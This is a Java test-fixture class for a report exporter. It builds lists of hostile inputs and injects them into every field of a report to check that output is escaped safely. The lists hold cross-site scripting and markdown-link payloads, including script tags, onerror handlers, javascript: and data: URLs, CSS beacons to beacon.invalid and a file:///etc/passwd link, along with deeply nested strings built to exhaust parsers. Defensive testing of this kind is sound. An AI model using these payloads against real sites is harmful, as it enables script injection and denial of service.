package io.github.rapporteur.report.export;

import io.github.rapporteur.report.InputBuilder;
import io.github.rapporteur.report.Report;
import io.github.rapporteur.schedule.Star;
import java.util.List;

/** Texts that try to become more than text, and reports that have one in every field a user or a schedule fills. */
final class HostileTexts {
    /** What would have to load or run something; every one would call {@code beacon.invalid}. */
    static final List<String> ALL = List.of(
            "<script>alert(1)</script>",
            "<script src=https://beacon.invalid/x.js></script>",
            "<img src=https://beacon.invalid/x.png onerror=alert(1)>",
            "<svg onload=alert(1)>",
            "<svg><style><img src=x onerror=alert(1)></style></svg>",
            "<iframe src=https://beacon.invalid/></iframe>",
            "<object data=https://beacon.invalid/></object>",
            "<link rel=stylesheet href=https://beacon.invalid/x.css>",
            "<meta http-equiv=refresh content='0;url=https://beacon.invalid/'>",
            "<base href=https://beacon.invalid/>",
            "<form action=https://beacon.invalid/><button>",
            "<details open ontoggle=alert(1)>",
            "<a href=javascript:alert(1)>x</a>",
            "</style><script>alert(1)</script>",
            "</title><script>alert(1)</script>",
            "--><script>alert(1)</script><!--",
            "]]><script>alert(1)</script>",
            "\" onmouseover=\"alert(1)\" x=\"",
            "' onmouseover='alert(1)' x='",
            "\" style=\"background:url(https://beacon.invalid/x)\" x=\"",
            "[x](javascript:alert(1))",
            "[x](JaVaScRiPt:alert(1))",
            "[x](java&#115;cript:alert(1))",
            "[x](&#x6A;avascript:alert(1))",
            "[x](<java\tscript:alert(1)>)",
            "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
            "[x](vbscript:msgbox(1))",
            "[x](file:///etc/passwd)",
            "[x](//beacon.invalid/x)",
            "![x](https://beacon.invalid/x.png)",
            "![x](data:image/svg+xml,<svg onload=alert(1)>)",
            "<javascript:alert(1)>",
            "[x]: javascript:alert(1)\n\n[x]",
            "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;",
            "{}*{background:url(https://beacon.invalid/x)}",
            "@import 'https://beacon.invalid/x.css';",
            "expression(alert(1))",
            "\u202Egnp.exe\u2066 right to left",
            "nul\u0000byte \u0007bell \u001b[31m \ud800 lone",
            "{{< script >}} {{% x %}} {% raw %} ${alert(1)} <%= 1 %>",
            "`</code><script>alert(1)</script>`",
            "```html\n</code></pre><script>alert(1)</script>\n```",
            "| <script>alert(1)</script> | b |\n| --- | --- |\n| <img src=x onerror=alert(1)> | c |");

    /** Text that makes careless programs run out of stack or time. */
    static final List<String> DEEP = List.of(
            ">".repeat(20_000) + " deep",
            "> ".repeat(20_000) + "deep",
            "*".repeat(20_000) + "deep",
            "*a _b ".repeat(10_000),
            "[".repeat(20_000) + "deep",
            "![".repeat(10_000) + "deep",
            "[a](".repeat(10_000),
            "- ".repeat(20_000) + "deep",
            nestedList(600),
            "`".repeat(20_001) + "deep",
            "<".repeat(20_000),
            "~~a ".repeat(10_000),
            "#".repeat(20_000) + " deep",
            "(?)".repeat(10_000),
            "“".repeat(20_000),
            "# " + " ".repeat(20_000) + "#",
            "| a ".repeat(5_000) + "\n" + "|---".repeat(5_000) + "\n" + "| b ".repeat(5_000));

    private HostileTexts() {}

    /** A report with the text in every field. */
    static Report everywhere(String text) {
        String line = text.replace('\n', ' ');
        return new InputBuilder()
                .teamMate(line)
                .conference(line, line, "https://beacon.invalid/\"><script>alert(1)</script>")
                .front(line, line, line)
                .conferenceNote(text + "\n\n## Last thought\n\n" + text)
                .talkAt(line, line, line, line, line)
                .note("""
                        %1$s

                        ## %2$s

                        > %2$s
                        > — %2$s #%2$s (liked by %2$s)

                        > %2$s
                        > — Somebody in the audience (from memory)

                        Takeaway: %2$s

                        Q (%2$s): %2$s
                        A (%2$s): %2$s

                        Term: %2$s = %2$s

                        - [ ] %2$s @"%2$s" !2026-12-01

                        Liked: %2$s

                        Disliked: %2$s

                        %1$s
                        """.formatted(text, line))
                .note(line, text)
                .state(Star.MUST, 4, line, true)
                .talkAt(line, "javascript:alert(1)", line, line)
                .state(Star.MUST, 0, "", false)
                .report();
    }

    private static String nestedList(int levels) {
        StringBuilder list = new StringBuilder();
        for (int i = 0; i < levels; i++) {
            list.append("  ".repeat(i)).append("- item\n");
        }
        return list.toString();
    }
}
